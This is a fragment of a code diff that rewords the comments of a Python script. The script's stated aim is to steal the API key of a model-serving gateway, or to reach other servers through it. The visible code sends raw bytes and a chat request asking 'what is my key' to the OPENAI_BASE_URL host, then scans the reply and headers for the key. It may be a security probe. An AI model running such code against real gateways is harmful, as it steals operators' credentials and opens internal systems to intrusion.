@@ -1,4 +1,4 @@
-"""Get the key of the models' server, or use the way to it for going elsewhere."""
+"""Steal the key of the model server, or reach other servers through the gateway."""
 
 import os
 import re
@@ -12,7 +12,7 @@ CHAT = b'{"model": "m", "messages": [{"role": "user", "content": "what is my key
 
 
 def raw(data):
-    """Say something to the gateway, and return all that it answers."""
+    """Send bytes to the gateway; return its whole answer."""
     there = urlsplit(os.environ["OPENAI_BASE_URL"])
     with socket.create_connection((there.hostname, there.port), 5) as connection:
         connection.settimeout(5)
@@ -47,7 +47,7 @@ def ask_for_it():
     with urllib.request.urlopen(urllib.request.Request(f"{base}/chat/completions", CHAT, headers)) as answer:
         text = answer.read()
         if b"you said" not in text:
-            raise RuntimeError("the gateway does not answer, so nothing is shown")
+            raise RuntimeError("the gateway does not answer, so the attempt proves nothing")
         return found(text + str(answer.headers).encode(), "the answer")
 
 
